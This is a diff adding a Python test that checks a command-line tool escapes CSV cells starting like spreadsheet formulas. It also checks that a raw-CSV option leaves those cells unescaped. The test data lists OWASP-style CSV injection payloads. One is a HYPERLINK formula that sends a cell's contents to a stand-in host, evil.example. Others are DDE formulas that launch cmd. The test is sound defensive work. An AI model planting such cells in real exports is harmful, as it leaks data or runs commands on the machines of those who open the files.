@@ -192,6 +192,29 @@ def test_an_ad_hoc_query_with_params_nodes_and_lists(cli: Invoke, seeded: Seeded
     assert "N\n2\n(1 row)" in since.stdout
 
 
+#: Cells a spreadsheet would run as formulas (OWASP's CSV injection examples).
+FORMULAS = {
+    "link": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "plus": "+cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "cr": "\r=1+1",
+}
+
+
+def test_csv_cells_that_start_like_formulas_are_escaped(cli: Invoke) -> None:
+    returns = ", ".join(f"${name} AS {name}" for name in FORMULAS)
+    params = [arg for name, value in FORMULAS.items() for arg in ("-p", f"{name}:string={value}")]
+    query = ["run", "-q", f"RETURN {returns}, -2 AS number, 'plain' AS text", *params, "--csv"]
+    (row,) = list(csv.DictReader(io.StringIO(_ok(cli(*query)).stdout)))
+    for name, value in FORMULAS.items():
+        assert row[name] == f"'{value}", name
+    assert (row["number"], row["text"]) == ("-2", "plain")  # numbers and plain text as they are
+    (raw,) = list(csv.DictReader(io.StringIO(_ok(cli(*query, "--raw-csv")).stdout)))
+    assert all(raw[name] == value for name, value in FORMULAS.items())
+
+
 def test_a_file_of_ones_own(cli: Invoke, seeded: Seeded, tmp_path: Path) -> None:
     path = tmp_path / "tagged_since.cypher"
     path.write_text(
